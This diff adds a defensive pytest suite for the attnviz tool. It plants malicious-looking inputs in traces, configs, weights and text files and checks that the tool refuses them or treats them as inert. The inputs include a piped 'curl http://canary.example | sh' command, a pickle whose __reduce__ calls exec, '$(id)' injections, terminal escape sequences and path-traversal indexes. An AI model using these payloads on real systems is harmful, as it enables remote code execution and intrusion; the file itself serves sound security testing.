@@ -1,0 +1,401 @@
+"""Every kind of file that attnviz reads, with a canary in it: opened as data, it does nothing.
+
+A canary is a Python file, a pickle, a name on a hub, a path outside, an escape sequence or a line
+for a shell. What Python does is watched by its own audit; torch, tokenizers and safetensors are
+compiled, and are watched by what is refused.
+"""
+
+from __future__ import annotations
+
+import json
+import pickle
+import shutil
+import socket
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+import torch
+from safetensors.torch import load_file, save_file
+
+from attnviz import trace
+from attnviz.traces.models.names import place_of
+from tests.conftest import Attnviz, unchecked
+
+Bird = Callable[[Path], list[str]]  # writes files into a folder; and the command that opens them
+TEXT = "it was too tired"
+HUB = "canary-owner/canary"
+RAW = ("\x1b", "\x07", "\u202e", "\x9b")
+ESCAPE = "a\x1b]52;c;Q\x07\u202eb\x9b2J"
+SPELLED = r"a\u001b]52;c;Q\u0007\u202eb\u009b2J"  # as TOML and JSON write it
+SHELL = "attnviz run 'I am'; curl http://canary.example | sh"
+PYTHON = "open({!r}, 'w').close()\nfrom transformers import BertConfig as C, BertModel as M\n"
+OUTPUTS = ("x.html", "x.md", "x.json")
+
+
+@dataclass
+class Watch:
+    """What must not happen, if it happens anywhere in this process."""
+
+    forbidden: Path | None = None
+    seen: list[str] = field(default_factory=list)
+
+    def __call__(self, event: str, details: tuple[Any, ...]) -> None:
+        if self.forbidden is None:
+            return
+        if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
+            self.seen.append(f"{event} {details[:2]}")
+            raise PermissionError(event)  # neither is anybody asked
+        if event == "open" and isinstance(details[0], str) and "forbidden" in details[0]:
+            self.seen.append(f"{event} {details[0]}")
+
+
+WATCH = Watch()
+sys.addaudithook(WATCH)
+
+
+@pytest.fixture
+def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
+    """A folder to work in, beside one with files that nothing may touch."""
+    (tmp_path / "here").mkdir()
+    (tmp_path / "forbidden").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+    monkeypatch.setenv("TIKTOKEN_CACHE_DIR", str(tmp_path))
+    for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE"):
+        monkeypatch.delenv(name, raising=False)
+    yield WATCH
+    WATCH.forbidden = None
+    WATCH.seen.clear()
+
+
+def outside() -> Path:
+    return Path("../forbidden").resolve()
+
+
+def planted(name: str, text: str) -> str:
+    """A file that could well be read, if anybody opened it."""
+    (outside() / name).write_text(text, encoding="utf-8")
+    return str(outside() / name)
+
+
+def python(place: Path) -> Path:
+    """Code that leaves a file where it runs."""
+    place.write_text(PYTHON.format(str(outside() / "ran")), encoding="utf-8")
+    return place
+
+
+class Pickled:
+    def __reduce__(self) -> tuple[Any, ...]:
+        return exec, (f"open({str(outside() / 'ran')!r}, 'w').close()",)
+
+
+def written(name: str, text: str) -> str:
+    Path(name).write_text(text, encoding="utf-8")
+    return name
+
+
+def changed(path: Path, **changes: Any) -> Path:
+    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | changes))
+    return path
+
+
+def of_code(transformer: Path) -> str:
+    """The folder of a transformer that brings code of its own."""
+    shutil.copytree(transformer, "model")
+    python(Path("model", "code.py"))
+    auto_map = {"AutoConfig": "code.C", "AutoModel": "code.M", "AutoTokenizer": "code.C"}
+    changed(Path("model", "config.json"), auto_map=auto_map, model_type="canary")
+    changed(Path("model", "tokenizer_config.json"), auto_map=auto_map, tokenizer_class="Canary")
+    return "model"
+
+
+def saved_trace(transformer: Path, suffix: str, **settings: Any) -> str:
+    """A trace of a transformer that names another, and trusts it."""
+    trace(TEXT, model=str(transformer)).save(f"made{suffix}")
+    return with_settings(f"made{suffix}", **settings)
+
+
+def with_settings(file: str, **settings: Any) -> str:
+    if file.endswith(".npz"):
+        arrays = dict(np.load(file))
+        told = json.loads(str(arrays["trace"]))
+        told["origin"]["settings"].update(settings)
+        np.savez(file, **arrays | {"trace": np.array(json.dumps(told))})
+        return file
+    document = json.loads(Path(file).read_text(encoding="utf-8"))
+    document["trace"]["origin"]["settings"].update(settings)
+    return written(file, json.dumps(document))
+
+
+def drawn_trace(**settings: Any) -> str:
+    trace("I am").save("drawn.json")
+    return with_settings("drawn.json", **settings)
+
+
+def trusted_code(transformer: Path, suffix: str) -> str:
+    return saved_trace(transformer, suffix, model=of_code(transformer), trust_remote_code=True)
+
+
+def strangers_trace(_: Path) -> list[str]:
+    """Its text, its words, the versions it tells of and its command are a stranger's."""
+    trace("I am").save("drawn.json")
+    document = json.loads(Path("drawn.json").read_text(encoding="utf-8"))
+    document["attnviz"] |= {"command": SHELL, "version": ESCAPE, "device": ESCAPE}
+    document["attnviz"]["versions"]["torch"] = ESCAPE
+    document["trace"]["tokens"] |= {"text": ESCAPE, "words": [ESCAPE, f"<script>{ESCAPE}"]}
+    return ["run", "--trace", written("t.json", json.dumps(document))]
+
+
+def pickled_array(name: str) -> str:
+    arrays = np.array([Pickled()], dtype=object)
+    np.savez(name, scores=arrays, trace=arrays) if name.endswith("z") else np.save(name, arrays)
+    return name
+
+
+def pickled_as(name: str) -> str:
+    Path(name).write_bytes(pickle.dumps(Pickled()))
+    return name
+
+
+def named_tensors(name: str) -> str:
+    metadata = {"file": str(outside() / "x.npy"), "axes.scores": ESCAPE, "model": HUB}
+    save_file({"scores": torch.eye(2)}, name, metadata=metadata)
+    return name
+
+
+TRUST = "trust_remote_code = true"
+LESSON = 'title = "{0}"\nsource = "{0}"\ntext = "I am"\n{1}\n'
+GRAMMAR = """about = "{0}"\nasks = "verb"\nanswers = "noun"\nwatch = "the key is"\n{1}
+[words]\nnoun = ["key", "door", "cat", "dog", "fox", "cow"]\nverb = ["is", "was"]
+[[sentences]]\npatterns = ["the {{noun}} {{verb}}"]\n"""
+BY_HAND = """about = "{0}"\ndimensions = ["x"]\n[words]\na = {{ x = 1 }}\n{1}
+[[heads]]\ndoes = "{0}"\nasks = ["x"]\nhands = ["x"]\nquery.x.x = 1\nkey.x.x = 1\nvalue.x.x = 1
+out.x.x = 1\n"""
+LEARN = ["--steps=1", "--batch=2", "-q"]
+
+
+def lesson(*settings: str) -> Bird:
+    text = LESSON.format(SPELLED, "\n".join(["[settings]", *settings]))
+    return lambda _: ["example", "show", written("lesson.toml", text)]
+
+
+def saved_model(file: str = "", **changes: Any) -> str:
+    shutil.copytree(place_of("reverse"), "saved")
+    if file:
+        changed(Path("saved", file), **changes)
+    return "saved"
+
+
+def training(**asked: str) -> Bird:
+    """A folder that was learned in, and says that it goes on with something else."""
+
+    def made(_: Path) -> list[str]:
+        from attnviz.learning import progress
+        from attnviz.learning.asked import task_of
+        from attnviz.learning.choices import Choices
+        from attnviz.learning.training import Training
+
+        with unchecked():
+            learning = Training(task_of("reverse"), choices=Choices(steps=1, batch=2))
+            list(learning)
+        progress.write(Path("saved"), learning.progress())
+        changed(Path("saved", "training.json"), asked=asked)
+        python(Path("saved", "task.py"))
+        planted("lines.txt", "a b\nb c\n")
+        planted("g.toml", GRAMMAR.format("x", ""))
+        return ["learn", "--from", "saved", "--steps=2"]
+
+    return made
+
+
+def transformer_with(*names: str) -> Callable[[Callable[[Path], object]], Bird]:
+    """The folder of a transformer without some of its files, and with something in it."""
+
+    def of(plant: Callable[[Path], object]) -> Bird:
+        def made(transformer: Path) -> list[str]:
+            shutil.copytree(transformer, "model")
+            plant(Path("model"))
+            for name in names:
+                Path("model", name).unlink()
+            return ["inspect", TEXT, "--model", "model"]
+
+        return made
+
+    return of
+
+
+def index_outside(model: Path, path: str = "../../forbidden/x.safetensors") -> None:
+    """Weights that could well be read, if anybody opened them."""
+    weights = load_file(model / "model.safetensors")
+    save_file(weights, outside() / "x.safetensors", metadata={"format": "pt"})
+    index = {"metadata": {}, "weight_map": dict.fromkeys(weights, path)}
+    written(str(model / "model.safetensors.index.json"), json.dumps(index))
+
+
+def names_a_hub(model: Path) -> None:
+    changed(model / "config.json", _name_or_path=HUB, transformers_version=ESCAPE)
+    changed(model / "tokenizer_config.json", name_or_path=HUB)
+    adapter = {"base_model_name_or_path": HUB, "peft_type": "LORA"}
+    written(str(model / "adapter_config.json"), json.dumps(adapter))
+
+
+def escapes_in_tokens(model: Path) -> None:
+    path = model / "tokenizer.json"
+    path.write_text(path.read_text(encoding="utf-8").replace('"[CLS]"', json.dumps(ESCAPE)))
+
+
+def embeddings_index(transformer: Path) -> list[str]:
+    shutil.copytree(transformer, "model")
+    index_outside(Path("model"))
+    Path("model", "model.safetensors").unlink()
+    return ["run", TEXT, "-t", "words", "--embeddings", "model"]
+
+
+# What is opened, and whether it may be shown: 0; or has to be refused: 2.
+CANARIES: dict[str, tuple[int, Bird]] = {
+    "trace .json: code, by effect": (2, lambda model: [
+        "inspect", "--by=effect", "--trace", trusted_code(model, ".json")]),
+    "trace .npz: code, by gradient": (2, lambda model: [
+        "inspect", "--weigh=gradient", "--trace", trusted_code(model, ".npz")]),
+    "trace: code, beside a sentence": (2, lambda model: [
+        "compare", "it was too large", "--trace", trusted_code(model, ".json")]),
+    "trace: code, in two precisions": (2, lambda model: [
+        "compare", "--by=dtype", "--trace", trusted_code(model, ".json")]),
+    "trace: code, of nothing trained": (2, lambda model: [
+        "compare", "--trace", drawn_trace(model=of_code(model), trust_remote_code=True)]),
+    "trace: hub": (2, lambda model: [
+        "inspect", "--by=effect", "--trace", saved_trace(model, ".json", model=HUB)]),
+    "trace: hub's vectors": (2, lambda _: ["compare", "--trace", drawn_trace(embeddings=HUB)]),
+    "trace: tokenizer": (2, lambda _: ["compare", "--trace", drawn_trace(tokenizer="o200k_base")]),
+    "trace: vectors outside": (2, lambda _: [
+        "compare", "--trace", drawn_trace(embeddings=planted("x.txt", "I 1 2\nam 2 1\n"))]),
+    "trace: escapes and a shell": (0, strangers_trace),
+    "trace .npz: pickle": (2, lambda _: ["run", "--trace", pickled_array("t.npz")]),
+    "given .toml: escapes": (0, lambda _: ["run", "--given", written(
+        "g.toml", f'tokens = ["{SPELLED}", "b"]\nembeddings = [[1, 2], [3, 4]]')]),
+    "given .toml: names": (2, lambda _: ["run", "--given", written(
+        "g.toml", f'scores = [[1]]\nmodel = "{HUB}"')]),
+    "given .json: escapes": (0, lambda _: ["run", "--given", written(
+        "g.json", f'{{"tokens": ["{SPELLED}", "b"], "embeddings": [[1, 2], [3, 4]]}}')]),
+    "given .npz: pickle": (2, lambda _: ["run", "--given", pickled_array("g.npz")]),
+    "given .npz: pickle of another name": (2, lambda _: ["run", "--given", pickled_as("g.npz")]),
+    "given .safetensors: pickle": (2, lambda _: ["run", "--given", pickled_as("g.safetensors")]),
+    "given .safetensors: names": (2, lambda _: ["run", "--given", named_tensors("g.safetensors")]),
+    "embeddings .npy: pickle": (2, lambda _: ["run", "I", "--embeddings", pickled_array("e.npy")]),
+    "embeddings .npz: pickle": (2, lambda _: ["run", "I", "--embeddings", pickled_array("e.npz")]),
+    "embeddings .bin: pickle": (2, lambda _: ["run", "I", "--embeddings", pickled_as("e.bin")]),
+    "embeddings .txt: escapes": (0, lambda _: [
+        *("run", ESCAPE, "--tokenizer=spaces", "--embeddings"),
+        written("e.txt", f"{ESCAPE} 1 2 3\n")]),
+    "embeddings of a folder: outside": (2, embeddings_index),
+    "lesson: escapes": (0, lesson("heads = 1")),
+    "lesson: code": (2, lambda model: [
+        *lesson(f'model = "{of_code(model)}"', TRUST)(model)]),
+    "lesson: hub": (2, lesson(f'model = "{HUB}"')),
+    "lesson: vectors outside": (2, lambda model: [
+        *lesson(f'embeddings = "{planted("x.txt", "I 1 2")}"', 'tokenizer = "words"')(model)]),
+    "lesson: hub's vectors": (2, lesson(f'embeddings = "{HUB}"')),
+    "lesson: tokenizer": (2, lesson('tokenizer = "o200k_base"')),
+    "lesson: code, expected": (2, lambda model: ["example", "check", written(
+        "lesson.toml", LESSON.format("x", f"[[expect]]\nstep = 'softmax'\nshape = [1]\n"
+                                     f"with = {{ model = '{of_code(model)}', {TRUST} }}"))]),
+    "grammar: escapes": (0, lambda _: [
+        "learn", written("g.toml", GRAMMAR.format(SPELLED, "")), *LEARN]),
+    "grammar: code": (2, lambda _: ["learn", written(
+        "g.toml", GRAMMAR.format("x", f'task = "{python(Path("task.py"))}"')), *LEARN]),
+    "lines: escapes": (0, lambda _: ["learn", "--file", written(
+        "lines.txt", "\n".join(f"{ESCAPE} {each}" for each in "abcdefghijkl")), *LEARN]),
+    "by hand: escapes": (0, lambda _: [
+        "run", "a a", "--model", written("m.toml", BY_HAND.format(SPELLED, ""))]),
+    "by hand: names": (2, lambda _: ["run", "a", "--model", written(
+        "m.toml", BY_HAND.format("x", f'[settings]\nmodel = "{HUB}"'))]),
+    "saved model: escapes": (0, lambda _: ["run", "a b", "--model", saved_model(
+        "config.json", name=ESCAPE, about=ESCAPE)]),
+    "saved model: hub": (2, lambda _: ["run", "a b", "--model", saved_model(
+        "config.json", settings={"model": HUB, "trust_remote_code": True})]),
+    "saved model: tokenizer": (2, lambda _: ["run", "a b", "--model", saved_model(
+        "vocabulary.json", tokenizer="o200k_base")]),
+    "saved model: task": (2, lambda _: ["heads", "--model", saved_model(
+        "config.json", facts={"task": str(python(Path("task.py")))})]),
+    "saved model: pickle": (2, lambda _: ["run", "a b", "--model", str(
+        Path(pickled_as(f"{saved_model()}/model.safetensors")).parent)]),
+    "goes on: code": (2, training(task="saved/task.py")),
+    "goes on: grammar outside": (2, training(task="../forbidden/g.toml")),
+    "goes on: lines outside": (2, training(file="../forbidden/lines.txt", tokenizer="words")),
+    "transformer: code": (2, lambda model: ["inspect", TEXT, "--model", of_code(model)]),
+    "transformer: pickle": (2, transformer_with("model.safetensors")(
+        lambda model: pickled_as(str(model / "pytorch_model.bin")))),
+    "transformer: index outside": (2, transformer_with("model.safetensors")(index_outside)),
+    "transformer: index elsewhere": (2, transformer_with("model.safetensors")(
+        lambda model: index_outside(model, str(outside() / "x.safetensors")))),
+    "transformer: hub": (0, transformer_with()(names_a_hub)),
+    "transformer: escapes": (0, transformer_with()(escapes_in_tokens)),
+    "text: escapes": (0, lambda _: ["run", "--file", written("story.txt", f"{ESCAPE} $(id) `id`")]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", CANARIES)
+def test_a_file_is_data(
+    name: str,
+    watch: Watch,
+    attnviz: Attnviz,
+    small_transformer: Callable[[str], Path],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    status, plant = CANARIES[name]
+    command = plant(small_transformer("bert"))
+    files = {*Path().rglob("*")}
+    outputs = [] if command[1] == "check" else [each for file in OUTPUTS for each in ("-o", file)]
+    with monkeypatch.context() as patch:
+        patch.setattr(socket.socket, "connect", lambda *_: watch.seen.append("connect"))
+        watch.forbidden = outside()
+        printed = attnviz(*command)
+        result = attnviz(*command, *outputs) if status == 0 else printed
+        watch.forbidden = None
+
+    assert watch.seen == []
+    assert (printed.status, result.status) == (status, status), printed.err + result.err
+    assert not (outside() / "ran").exists()
+    new = [each for each in {*Path().rglob("*")} - files if each.is_file()]
+    assert {each.name for each in new} == ({*OUTPUTS} if status == 0 else set())
+    texts = [printed.out, printed.err, result.out, result.err]
+    texts += [each.read_bytes().decode("utf-8") for each in new]
+    assert not [each for text in texts for each in RAW if each in text]
+    assert not [text for text in texts if "canary.example" in text]
+    if status == 2:
+        assert [line[:7] for line in printed.err.splitlines()] == ["error: ", " hint: "]
+
+
+def connect() -> None:
+    with socket.socket() as opened:
+        opened.connect(("127.0.0.1", 9))
+
+
+@pytest.mark.parametrize(
+    ("does", "seen"),
+    [
+        (lambda: socket.create_connection(("127.0.0.1", 9), 1), "socket.getaddrinfo"),
+        (connect, "socket.connect"),
+        (lambda: subprocess.run(["true"], check=True), "subprocess.Popen"),
+        (lambda: (outside() / "x").write_text(""), "open"),
+        (lambda: pickle.loads(pickle.dumps(Pickled())), "open"),
+    ],
+)
+def test_a_canary_is_noticed(does: Callable[[], object], seen: str, watch: Watch) -> None:
+    watch.forbidden = outside()
+    with suppress(PermissionError):
+        does()
+    assert watch.seen[0].startswith(seen)
+
+
+def test_a_task_in_python_that_somebody_types_is_run(watch: Watch, attnviz: Attnviz) -> None:
+    """So the canaries above are alive."""
+    attnviz("learn", str(python(Path("task.py"))))
+
+    assert (outside() / "ran").exists()
